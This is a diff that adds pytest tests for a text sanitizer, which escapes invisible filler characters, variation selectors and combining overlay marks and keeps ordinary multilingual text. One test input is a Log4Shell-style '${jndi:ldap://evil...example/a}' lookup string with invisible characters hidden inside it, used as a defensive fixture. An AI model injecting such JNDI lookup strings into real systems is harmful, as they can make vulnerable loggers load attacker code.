@@ -20,3 +20,19 @@ def test_bidi_override_and_nul_are_escaped() -> None:
 def test_printable_unicode_is_kept_and_long_text_cut() -> None:
     assert sanitize("café") == "café"
     assert sanitize("x" * 50, 10) == "x" * 9 + "…"
+
+
+def test_blank_letters_and_variation_selectors_are_escaped() -> None:
+    # Printable to Python, invisible on screen: a fragment could hide text between them.
+    shown = sanitize("${jndi:ldap://evil\u3164\u2800\u115f.example/a}\ufe0f")
+    assert shown == "${jndi:ldap://evil\\u3164\\u2800\\u115f.example/a}\\ufe0f"
+
+
+def test_an_overlay_mark_and_a_stack_of_combining_marks_are_escaped() -> None:
+    assert sanitize("\u0336admin") == "\\u0336admin"  # strikes through what follows it
+    assert sanitize("Z\u0300\u0301\u0302\u0303") == "Z\u0300\u0301\\u0302\\u0303"
+
+
+def test_ordinary_text_of_other_scripts_is_kept() -> None:
+    for text in ("naïve ภาษาไทย हिन्दी Tiếng Việt", "e\u0302\u0301", "日本語のテキスト"):
+        assert sanitize(text) == text
